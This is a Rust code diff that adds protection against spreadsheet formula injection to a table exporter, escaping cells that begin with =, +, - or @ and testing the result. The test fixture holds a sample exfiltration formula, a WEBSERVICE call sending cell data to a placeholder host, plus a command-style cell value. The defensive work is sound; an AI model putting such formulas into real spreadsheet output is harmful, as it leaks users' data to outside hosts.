@@ -42,10 +42,16 @@ pub fn grid_text(grid: &Grid) -> String {
     lines(grid, "\t", |runs| cell_text(runs).replace([LINE_END, '\n', '\t'], " "))
 }
 
-/// A table as a file of comma-separated values: as RFC 4180 says, but with plain line ends.
+/// The same for spreadsheets: none of its cells is a formula there.
+pub fn spreadsheet_cells(grid: &Grid) -> String {
+    lines(grid, "\t", |runs| harmless(cell_text(runs).replace([LINE_END, '\n', '\t'], " ")))
+}
+
+/// A table as a file of comma-separated values: as RFC 4180 says, but with plain line ends. None of its cells is a
+/// formula in a spreadsheet.
 pub fn comma_separated(grid: &Grid) -> String {
     let mut out = lines(grid, ",", |runs| {
-        let text = cell_text(runs).replace(LINE_END, "\n");
+        let text = harmless(cell_text(runs).replace(LINE_END, "\n"));
         if text.contains([',', '"', '\n', '\r']) || text.trim() != text {
             format!("\"{}\"", text.replace('"', "\"\""))
         } else {
@@ -54,6 +60,30 @@ pub fn comma_separated(grid: &Grid) -> String {
     });
     out.push('\n');
     out
+}
+
+/// A cell as a spreadsheet shows it and no more: a model may have written a formula that sends data away. One that
+/// would be taken for a formula gets an apostrophe before it, with which a text begins there.
+fn harmless(text: String) -> String {
+    // Blanks before it may get lost on the way.
+    let mut letters = text.trim_start().chars();
+    let may_begin_formula =
+        matches!(letters.next(), Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'));
+    let has_words = letters.clone().any(char::is_alphanumeric);
+    if may_begin_formula && has_words && !is_number(letters.as_str()) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+/// Whether this is a number, written as anywhere in the world, perhaps with a unit that cannot be computed.
+fn is_number(text: &str) -> bool {
+    let text = text.trim_start_matches(['$', '€', '£', '¥', ' ']);
+    let is_part =
+        |letter: char| letter.is_ascii_digit() || ".,’ \u{a0}\u{202f}%€°".contains(letter);
+    text.starts_with(|letter: char| letter.is_ascii_digit() || ".,".contains(letter))
+        && (text.chars().all(is_part) || text.parse::<f64>().is_ok())
 }
 
 /// A table as Markdown.
@@ -132,6 +162,30 @@ mod tests {
             comma_separated(&grid),
             "Name,Size,Note\na,\"1,5\",\"said \"\"yes\"\"\"\nb | c,2,\"one\ntwo\"\n"
         );
+    }
+
+    #[test]
+    fn no_cell_is_a_formula_in_a_spreadsheet() {
+        let cells = "=WEBSERVICE(\"https://a.example/?\"&A1) | -5,5 % | +1e5 | -2+cmd | @SUM(1) | -E1 | - | a=b";
+        let grid = grid(&format!("| {cells} |\n|{}\n| ＝1+1 |", "--|".repeat(8)));
+        let safe = [
+            "'=WEBSERVICE(\"https://a.example/?\"&A1)",
+            "-5,5 %",
+            "+1e5",
+            "'-2+cmd",
+            "'@SUM(1)",
+            "'-E1",
+            "-",
+            "a=b",
+        ];
+        let written = spreadsheet_cells(&grid);
+        let rows: Vec<Vec<_>> = written.lines().map(|row| row.split('\t').collect()).collect();
+        assert_eq!(rows[0], safe);
+        assert_eq!(rows[1][0], "'＝1+1");
+        let separated = comma_separated(&grid);
+        assert!(separated.starts_with("\"'=WEBSERVICE(\"\"https"), "{separated}");
+        assert!(separated.contains(",'-2+cmd,'@SUM(1),'-E1,-,a=b\n'＝1+1,"), "{separated}");
+        assert!(grid_text(&grid).starts_with("=WEB"), "what is shown is as it was written");
     }
 
     #[test]
